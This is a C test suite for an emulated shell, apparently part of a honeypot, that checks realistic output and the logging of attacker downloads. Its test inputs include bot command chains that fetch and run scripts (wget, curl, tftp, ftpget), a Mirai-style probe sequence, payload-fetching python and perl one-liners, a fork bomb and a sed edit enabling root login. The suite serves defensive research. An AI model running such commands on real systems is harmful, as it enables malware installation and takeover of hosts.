/* The emulated shell end to end: expansion, control flow, commands, the
 * file system, consistency with the profile, bot sequences. */
#include <stdlib.h>
#include <string.h>

#include "ap/err.h"
#include "ap/limits.h"
#include "harness.h"
#include "sh.h"

#include "ap/common.h"

static struct sh_host host;
static char events[4096];

static void
on_event(void *ctx, enum sh_event ev, const char *a, const char *b)
{
    size_t n = strlen(events);
    AP_UNUSED(ctx);
    snprintf(events + n, sizeof(events) - n, "%s %s %s\n",
             ev == SH_EV_DOWNLOAD ? "download" : "unknown", a, b ? b : "-");
}

static struct sh *
new_sh(const char *user)
{
    struct sh *sh;
    host.p = sh_profile_default();
    snprintf(host.hostname, sizeof(host.hostname), "web-07");
    snprintf(host.ip, sizeof(host.ip), "10.0.0.7");
    host.boot_time = sh_now() - 86400 * 12 - 3600 * 5;
    sh = sh_new(&host, user, 1);
    if (sh) {
        sh->event = on_event;
        sh->event_ctx = NULL;
    }
    events[0] = '\0';
    return sh;
}

/* Run line, return its output as a NUL-terminated string (static). */
static const char *
run(struct sh *sh, const char *line)
{
    static char out[65536];
    size_t n;
    ap_buf_reset(&sh->out);
    sh_run(sh, line, strlen(line));
    n = AP_MIN(ap_buf_len(&sh->out), sizeof(out) - 1);
    memcpy(out, ap_buf_data(&sh->out), n);
    out[n] = '\0';
    return out;
}

TEST(echo_and_quotes)
{
    struct sh *sh = new_sh("root");
    ASSERT(sh != NULL);
    ASSERT_STR_EQ(run(sh, "echo hello   world"), "hello world\n");
    ASSERT_STR_EQ(run(sh, "echo 'a  b' \"c  d\" e\\ f"), "a  b c  d e f\n");
    ASSERT_STR_EQ(run(sh, "echo -n x; echo y"), "xy\n");
    ASSERT_STR_EQ(run(sh, "echo -e '\\x47\\x72\\x6f\\x70'"), "Grop\n");
    ASSERT_STR_EQ(run(sh, "echo -e 'a\\tb\\0101'"), "a\tbA\n");
    ASSERT_STR_EQ(run(sh, "printf '%s=%d\\n' a 1 b 2"), "a=1\nb=2\n");
    sh_free(sh);
}

TEST(variables_and_substitution)
{
    struct sh *sh = new_sh("root");
    ASSERT(sh != NULL);
    ASSERT_STR_EQ(run(sh, "X=42; echo $X ${X} \"$X\" '$X'"), "42 42 42 $X\n");
    ASSERT_STR_EQ(run(sh, "echo ${#X} ${NOPE:-dflt}"), "2 dflt\n");
    ASSERT_STR_EQ(run(sh, "echo $(echo a b) `echo c`"), "a b c\n");
    ASSERT_STR_EQ(run(sh, "echo \"$(echo nested $(echo deep))\""),
                  "nested deep\n");
    ASSERT_STR_EQ(run(sh, "echo $((3 * (4 + 5) % 7)) $((X / 2)) $((1<<4))"),
                  "6 21 16\n");
    ASSERT_STR_EQ(run(sh, "false; echo $?; true; echo $?"), "1\n0\n");
    ASSERT_STR_EQ(run(sh, "echo ~"), "/root\n");
    run(sh, "echo $((1/0))");
    ASSERT(sh->status != 0);
    sh_free(sh);
}

TEST(control_flow)
{
    struct sh *sh = new_sh("root");
    ASSERT(sh != NULL);
    ASSERT_STR_EQ(run(sh, "for i in 1 2 3; do echo -n $i; done; echo"),
                  "123\n");
    ASSERT_STR_EQ(run(sh, "i=0; while [ $i -lt 3 ]; do i=$((i+1)); echo $i; "
                          "done"),
                  "1\n2\n3\n");
    ASSERT_STR_EQ(run(sh, "until true; do echo no; done; echo yes"), "yes\n");
    ASSERT_STR_EQ(run(sh, "if [ -d /tmp ]; then echo d; else echo f; fi"),
                  "d\n");
    ASSERT_STR_EQ(run(sh, "if false; then echo 1; elif true; then echo 2; "
                          "fi"),
                  "2\n");
    ASSERT_STR_EQ(run(sh, "false && echo no || echo yes"), "yes\n");
    ASSERT_STR_EQ(run(sh, "{ echo a; echo b; } | wc -l"), "2\n");
    ASSERT_STR_EQ(run(sh, "(cd /tmp); pwd"), "/root\n");
    /* an endless loop ends at the step budget */
    run(sh, "while true; do :; done");
    ASSERT_STR_EQ(run(sh, "echo after"), "after\n");
    sh_free(sh);
}

TEST(file_system)
{
    struct sh *sh = new_sh("root");
    ASSERT(sh != NULL);
    ASSERT_STR_EQ(run(sh, "cd /tmp; echo hi > a.txt; cat a.txt; pwd"),
                  "hi\n/tmp\n");
    ASSERT_STR_EQ(run(sh, "echo more >> a.txt; cat /tmp/a.txt | wc -l"),
                  "2\n");
    ASSERT_STR_EQ(run(sh, "cp a.txt b; mv b c; ls"), "a.txt  c\n");
    ASSERT_STR_EQ(run(sh, "rm c; ls /tmp"), "a.txt\n");
    ASSERT_STR_EQ(run(sh, "cat nope"),
                  "cat: nope: No such file or directory\n");
    ASSERT_STR_EQ(run(sh, "rm /tmp"), "rm: cannot remove '/tmp': Is a directory\n");
    ASSERT_STR_EQ(run(sh, "mkdir -p x/y/z && cd x/y/z && pwd"),
                  "/tmp/x/y/z\n");
    ASSERT_STR_EQ(run(sh, "echo x > /proc/.nippon"),
                  "-bash: /proc/.nippon: No such file or directory\n");
    ASSERT_STR_EQ(run(sh, "echo x > /sys/.nippon"),
                  "-bash: /sys/.nippon: Permission denied\n");
    ASSERT_STR_EQ(run(sh, "cd /nowhere"),
                  "-bash: cd: /nowhere: No such file or directory\n");
    ASSERT_STR_EQ(run(sh, "cd /var/run && pwd"), "/run\n");
    ASSERT_STR_EQ(run(sh, "cd /tmp; chmod 777 a.txt; ls -l a.txt | cut -c1-10"),
                  "-rwxrwxrwx\n");
    ASSERT_STR_EQ(run(sh, "cd /tmp; echo 'echo from script' > s.sh; sh s.sh"),
                  "from script\n");
    ASSERT_STR_EQ(run(sh, "cd /tmp; ./s.sh"), "-bash: ./s.sh: Permission denied\n");
    ASSERT_STR_EQ(run(sh, "cd /tmp; chmod +x s.sh; ./s.sh"), "from script\n");
    ASSERT_STR_EQ(run(sh, "cd /tmp; touch g1 g2; echo g*"), "g1 g2\n");
    ASSERT_STR_EQ(run(sh, "cd /tmp; rm -rf *; ls"), "");
    sh_free(sh);
}

TEST(permissions_for_users)
{
    struct sh *sh = new_sh("ubuntu");
    ASSERT(sh != NULL);
    ASSERT_STR_EQ(run(sh, "pwd; whoami"), "/home/ubuntu\nubuntu\n");
    ASSERT_STR_EQ(run(sh, "echo x > /etc/passwd"),
                  "-bash: /etc/passwd: Permission denied\n");
    ASSERT_STR_EQ(run(sh, "cat /etc/shadow"),
                  "cat: /etc/shadow: Permission denied\n");
    ASSERT_STR_EQ(run(sh, "ls /root"),
                  "ls: cannot open directory '/root': Permission denied\n");
    ASSERT_STR_EQ(run(sh, "echo ok > /tmp/mine; cat /tmp/mine"), "ok\n");
    sh_free(sh);
    sh = new_sh("admin");
    ASSERT(sh != NULL);
    ASSERT_STR_EQ(run(sh, "id"), "uid=1001(admin) gid=1001(admin) "
                                 "groups=1001(admin)\n");
    ASSERT_STR_EQ(run(sh, "grep -c admin /etc/passwd"), "1\n");
    sh_free(sh);
}

TEST(consistent_identity)
{
    struct sh *sh = new_sh("root");
    const struct sh_profile *p = sh_profile_default();
    char want[512];
    ASSERT(sh != NULL);
    snprintf(want, sizeof(want), "Linux web-07 %s %s x86_64 x86_64 x86_64 "
                                 "GNU/Linux\n",
             p->kernel_release, p->kernel_version);
    ASSERT_STR_EQ(run(sh, "uname -a"), want);
    ASSERT_STR_EQ(run(sh, "hostname; cat /etc/hostname"), "web-07\nweb-07\n");
    snprintf(want, sizeof(want), "%u\n%u\n%u\n", p->ncpu, p->ncpu, p->ncpu);
    ASSERT_STR_EQ(run(sh, "nproc; grep -c processor /proc/cpuinfo; "
                          "getconf _NPROCESSORS_ONLN"),
                  want);
    snprintf(want, sizeof(want), "%llu\n", (unsigned long long)p->mem_kb);
    ASSERT_STR_EQ(run(sh, "free | grep Mem | awk '{print $2}'"), want);
    ASSERT_STR_EQ(run(sh, "grep MemTotal /proc/meminfo | awk '{print $2}'"),
                  want);
    ASSERT(strstr(run(sh, "uptime"), "up 12 days") != NULL);
    ASSERT(strstr(run(sh, "cat /proc/version"), p->kernel_release) != NULL);
    ASSERT(strstr(run(sh, "cat /etc/os-release"), "22.04") != NULL);
    ASSERT_STR_EQ(run(sh, "cat /proc/cpuinfo | grep name | head -n 1 | awk "
                          "'{print $4,$5,$6,$7,$8,$9;}'"),
                  "Intel(R) Xeon(R) CPU E5-2680 v4 @\n");
    ASSERT_STR_EQ(run(sh, "which wget; type cd"),
                  "/usr/bin/wget\ncd is a shell builtin\n");
    ASSERT_STR_EQ(run(sh, "ls /home"), "ubuntu\n");
    /* Cowrie tells must not appear */
    ASSERT(strstr(run(sh, "cat /etc/passwd"), "phil") == NULL);
    ASSERT(strstr(run(sh, "w; ps aux"), "richard") == NULL);
    sh_free(sh);
}

TEST(unknown_and_busybox)
{
    struct sh *sh = new_sh("root");
    ASSERT(sh != NULL);
    ASSERT_STR_EQ(run(sh, "enable"), "enable: command not found\n");
    ASSERT(sh->unknown);
    ASSERT_STR_EQ(events, "unknown enable -\n");
    ASSERT_STR_EQ(run(sh, "/bin/busybox ECCHI"), "ECCHI: applet not found\n");
    ASSERT_STR_EQ(run(sh, "busybox echo hi"), "hi\n");
    ASSERT(strncmp(run(sh, "cat /bin/echo"), "\177ELF", 4) == 0);
    sh_free(sh);
}

TEST(downloads_recorded)
{
    struct sh *sh = new_sh("root");
    ASSERT(sh != NULL);
    run(sh, "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget "
            "http://198.51.100.9/beetles.sh; curl -O "
            "http://198.51.100.9/beetles.sh; chmod 777 beetles.sh; sh "
            "beetles.sh; tftp 198.51.100.9 -c get beetle.sh; tftp -r "
            "beetle2.sh -g 198.51.100.9; ftpget -v -u anonymous -p anonymous "
            "-P 21 198.51.100.9 beetleftp.sh beetleftp.sh; busybox tftp -r "
            "b3.sh -g 198.51.100.9");
    ASSERT_STR_EQ(events,
                  "download http://198.51.100.9/beetles.sh -\n"
                  "download http://198.51.100.9/beetles.sh beetles.sh\n"
                  "download tftp://198.51.100.9/beetle.sh beetle.sh\n"
                  "download tftp://198.51.100.9/beetle2.sh beetle2.sh\n"
                  "download ftp://198.51.100.9:21/beetleftp.sh beetleftp.sh\n"
                  "download tftp://198.51.100.9/b3.sh b3.sh\n");
    ASSERT(strstr(run(sh, "wget http://198.51.100.9/x"),
                  "Connecting to 198.51.100.9:80... failed: Connection "
                  "refused.") != NULL);
    sh_free(sh);
}

/* The Mirai-family sequence from session 87a131a4aa22 of the real cowrie
 * log in ../shared/data: it probes writable directories with echo -e. */
TEST(mirai_probe)
{
    struct sh *sh = new_sh("root");
    static const char *const dirs[] = {"/", "/tmp", "/var/tmp", "/dev",
                                       "/dev/shm"};
    size_t i;
    char line[512], want[128];
    ASSERT(sh != NULL);
    for (i = 0; i < AP_ARRAY_SIZE(dirs); i++) {
        snprintf(line, sizeof(line),
                 "  echo -e '\\x47\\x72\\x6f\\x70%s' > %s/.nippon;   cat "
                 "%s/.nippon;   rm -f %s/.nippon",
                 dirs[i], dirs[i], dirs[i], dirs[i]);
        snprintf(want, sizeof(want), "Grop%s\n", dirs[i]);
        ASSERT_STR_EQ(run(sh, line), want);
    }
    ASSERT_STR_EQ(run(sh, "  echo -e '\\x47\\x72\\x6f\\x70/proc' > "
                          "/proc/.nippon;   cat /proc/.nippon;   rm -f "
                          "/proc/.nippon"),
                  "-bash: /proc/.nippon: No such file or directory\ncat: "
                  "/proc/.nippon: No such file or directory\n");
    ASSERT_STR_EQ(run(sh, "/gweerwe323f"),
                  "-bash: /gweerwe323f: No such file or directory\n");
    sh_free(sh);
}

TEST(syntax_error_reported)
{
    struct sh *sh = new_sh("root");
    ASSERT(sh != NULL);
    ASSERT(sh_run(sh, "a ;; b", 6) < 0);
    ASSERT(strstr(run(sh, "echo )"), "syntax error") != NULL);
    ASSERT_EQ(sh_complete("if true; then", 13), 0);
    ASSERT_EQ(sh_complete("echo a", 6), 1);
    ASSERT_STR_EQ(run(sh, "exit"), "logout\n");
    ASSERT(sh->exit_req);
    sh_free(sh);
}

TEST(fs_bytes_capped)
{
    struct sh *sh = new_sh("root");
    ASSERT(sh != NULL);
    /* doubling a file until the session's byte cap refuses */
    run(sh, "cd /tmp; echo 0123456789abcdef > f; i=0; while [ $i -lt 40 ]; "
            "do cat f f > g; mv g f; i=$((i+1)); done");
    ASSERT(sh->fs->bytes <= 8u * 1024u * 1024u);
    sh_free(sh);
}

TEST(sed_one_liners)
{
    struct sh *sh = new_sh("root");
    ASSERT(sh != NULL);
    ASSERT_STR_EQ(run(sh, "echo hello world | sed 's/o/0/'"), "hell0 world\n");
    ASSERT_STR_EQ(run(sh, "echo hello world | sed 's/o/0/g'"), "hell0 w0rld\n");
    ASSERT_STR_EQ(run(sh, "echo aaa | sed 's/a/b/2'"), "aba\n");
    ASSERT_STR_EQ(run(sh, "echo abc | sed -E 's/(a)(b)/\\2\\1[&]/'"),
                  "ba[ab]c\n");
    ASSERT_STR_EQ(run(sh, "echo abc | sed 's/\\(a\\)b/\\1X/'"), "aXc\n");
    ASSERT_STR_EQ(run(sh, "echo ABC | sed 's/b/x/I'"), "AxC\n");
    ASSERT_STR_EQ(run(sh, "echo /a/b | sed 's|/|_|g'"), "_a_b\n");
    ASSERT_STR_EQ(run(sh, "printf '1\\n2\\n3\\n4\\n' | sed -n '2,3p'"),
                  "2\n3\n");
    ASSERT_STR_EQ(run(sh, "printf '1\\n2\\n3\\n' | sed '2d'"), "1\n3\n");
    ASSERT_STR_EQ(run(sh, "printf '1\\n2\\n3\\n' | sed '$d'"), "1\n2\n");
    ASSERT_STR_EQ(run(sh, "printf 'a\\nb\\na\\n' | sed -n '/a/p'"), "a\na\n");
    ASSERT_STR_EQ(run(sh, "printf 'a\\nb\\nc\\n' | sed '/b/!d'"), "b\n");
    ASSERT_STR_EQ(run(sh, "printf 'a\\nb\\n' | sed -e 's/a/x/' -e 's/b/y/'"),
                  "x\ny\n");
    ASSERT_STR_EQ(run(sh, "printf 'a\\nb\\n' | sed 's/a/x/;s/b/y/'"), "x\ny\n");
    ASSERT_STR_EQ(run(sh, "printf 'a\\nb\\nc\\n' | sed 1q"), "a\n");
    ASSERT_STR_EQ(run(sh, "echo abc | sed 'y/abc/xyz/'"), "xyz\n");
    ASSERT_STR_EQ(run(sh, "printf 'a\\nb\\n' | sed -n '$='"), "2\n");
    ASSERT_STR_EQ(run(sh, "echo a | sed 'a\\after'"), "a\nafter\n");
    ASSERT_STR_EQ(run(sh, "echo a | sed 'i before'"), "before\na\n");
    /* -i edits the session's file; the host's file system is never used */
    run(sh, "echo 'PermitRootLogin no' > /tmp/c; sed -i 's/no/yes/' /tmp/c");
    ASSERT_STR_EQ(run(sh, "cat /tmp/c"), "PermitRootLogin yes\n");
    ASSERT_STR_EQ(run(sh, "sed -i.bak -e 's/yes/maybe/' /tmp/c; cat /tmp/c"),
                  "PermitRootLogin maybe\n");
    run(sh, "sed 's/a/b' /tmp/c");
    ASSERT(strstr(run(sh, "sed 's/a/b' /tmp/c 2>&1"),
                  "unterminated `s' command") != NULL);
    ASSERT(strstr(run(sh, "echo x | sed 'k' 2>&1"), "unknown command") != NULL);
    ASSERT(strstr(run(sh, "sed 's/a/b/' /nonexist 2>&1"),
                  "sed: can't read /nonexist: No such file or directory") != NULL);
    /* back-references in a pattern are refused, never matched */
    ASSERT(strstr(run(sh, "echo aa | sed 's/\\(a\\)\\1/x/' 2>&1"),
                  "Invalid back reference") != NULL);
    ASSERT(strstr(run(sh, "sed --version"), "GNU sed") != NULL);
    sh_free(sh);
}

TEST(interpreters_record_never_run)
{
    struct sh *sh = new_sh("root");
    ASSERT(sh != NULL);
    ASSERT_STR_EQ(run(sh, "python3 -V"), "Python 3.10.12\n");
    ASSERT_STR_EQ(run(sh, "python3 -c 'print(\"ok-123\")'"), "ok-123\n");
    ASSERT_STR_EQ(run(sh, "python3 -c 'import os; os.system(\"id\")'"), "");
    ASSERT_EQ(sh->status, 0);
    ASSERT_STR_EQ(run(sh, "perl -e 'print \"hi\\n\"'"), "hi\n");
    ASSERT_STR_EQ(run(sh, "perl -e 'print \"$x\"'"), "");
    ASSERT(strstr(run(sh, "perl -v"), "This is perl 5, version 34") != NULL);
    ASSERT(strstr(run(sh, "python3 /tmp/none.py 2>&1"),
                  "python3: can't open file '/tmp/none.py': [Errno 2] No "
                  "such file or directory") != NULL);
    ASSERT_EQ(sh->status, 2);
    events[0] = '\0';
    run(sh, "python3 -c \"import urllib.request as u; "
            "u.urlretrieve('http://198.51.100.3/x.bin', '/tmp/x')\"");
    run(sh, "perl -e 'use LWP::Simple; getstore(\"https://198.51.100.4/y\", "
            "\"y\")'");
    ASSERT_STR_EQ(events, "download http://198.51.100.3/x.bin -\n"
                          "download https://198.51.100.4/y -\n");
    ASSERT_STR_EQ(run(sh, "echo 'print(\"piped\")' | python3"), "piped\n");
    ASSERT_STR_EQ(run(sh, "which python3 perl sed"),
                  "/usr/bin/python3\n/usr/bin/perl\n/usr/bin/sed\n");
    sh_free(sh);
}

TEST(sleep_asks_for_a_wait)
{
    struct sh *sh = new_sh("root");
    ASSERT(sh != NULL);
    run(sh, "sleep 2");
    ASSERT_EQ(sh->delay_ms, 2000);
    run(sh, "sleep 0.5; sleep 1s");
    ASSERT_EQ(sh->delay_ms, 1500);
    run(sh, "sleep 1m 1h");
    ASSERT_EQ(sh->delay_ms, AP_LIMIT_SH_SLEEP_MS);
    ASSERT(strstr(run(sh, "sleep x 2>&1"), "sleep: invalid time interval")
           != NULL);
    ASSERT_EQ(sh->status, 1);
    ASSERT_EQ(sh->delay_ms, 0);
    sh_free(sh);
}

TEST(case_heredoc_functions)
{
    struct sh *sh = new_sh("root");
    ASSERT(sh != NULL);
    ASSERT_STR_EQ(run(sh, "A=x86_64; case $A in arm*) echo arm;; x86*|i?86) "
                          "echo intel;; *) echo other;; esac"),
                  "intel\n");
    ASSERT_STR_EQ(run(sh, "case foo in (bar) echo b;; (f*) echo f; echo g;; "
                          "esac"),
                  "f\ng\n");
    ASSERT_STR_EQ(run(sh, "case z in a) echo a;; esac; echo $?"), "0\n");
    ASSERT_STR_EQ(run(sh, "case x in\n x)\n  echo multi\n  ;;\nesac"),
                  "multi\n");
    ASSERT_STR_EQ(run(sh, "case \"$(uname -m)\" in x86_64) echo ok;; esac"),
                  "ok\n");
    /* here-documents: expanded, quoted (literal), <<- strips tabs */
    ASSERT_STR_EQ(run(sh, "N=7; cat <<EOF\nn=$N \"q\" $((N+1))\nEOF"),
                  "n=7 \"q\" 8\n");
    ASSERT_STR_EQ(run(sh, "cat <<'EOF'\n$HOME `x`\nEOF\necho after"),
                  "$HOME `x`\nafter\n");
    ASSERT_STR_EQ(run(sh, "cat <<-END\n\t\tindented\n\tEND"), "indented\n");
    run(sh, "cat > /tmp/h.sh << EOF\n#!/bin/sh\necho from-script\nEOF");
    ASSERT_STR_EQ(run(sh, "cat /tmp/h.sh"), "#!/bin/sh\necho from-script\n");
    ASSERT_STR_EQ(run(sh, "cat <<A; cat <<B\none\nA\ntwo\nB"), "one\ntwo\n");
    ASSERT_STR_EQ(run(sh, "wc -l <<X | tr -d ' '\na\nb\nX"), "2\n");
    /* functions, with arguments; a redefinition replaces; nesting ends */
    ASSERT_STR_EQ(run(sh, "f() { echo \"in f: $1 $2 ($#)\"; }; f a b"),
                  "in f: a b (2)\n");
    ASSERT_STR_EQ(run(sh, "f x"), "in f: x  (1)\n");
    ASSERT_STR_EQ(run(sh, "function g { echo g$1; }; g 1; g 2"), "g1\ng2\n");
    ASSERT_STR_EQ(run(sh, "f() { echo new; }; f"), "new\n");
    ASSERT_STR_EQ(run(sh, "echo $1 $#"), "0\n");
    ASSERT_STR_EQ(run(sh, "uname() { echo fake; }; uname"), "fake\n");
    ASSERT(strstr(run(sh, ":(){ :|:& };:"), "fork: retry") != NULL);
    ASSERT_STR_EQ(run(sh, "echo still-here"), "still-here\n");
    /* incomplete constructs ask for more input */
    ASSERT_EQ(sh_complete("case a in", 9), 0);
    ASSERT_EQ(sh_complete("cat <<EOF\nabc", 13), 0);
    ASSERT_EQ(sh_complete("cat <<EOF", 9), 0);
    ASSERT_EQ(sh_complete("f() {", 5), 0);
    ASSERT(sh_complete("case a in a) echo;; esac", 24) > 0);
    sh_free(sh);
}

int
main(void)
{
    RUN(echo_and_quotes);
    RUN(variables_and_substitution);
    RUN(control_flow);
    RUN(file_system);
    RUN(permissions_for_users);
    RUN(consistent_identity);
    RUN(unknown_and_busybox);
    RUN(downloads_recorded);
    RUN(mirai_probe);
    RUN(syntax_error_reported);
    RUN(fs_bytes_capped);
    RUN(sed_one_liners);
    RUN(interpreters_record_never_run);
    RUN(sleep_asks_for_a_wait);
    RUN(case_heredoc_functions);
    return DONE();
}
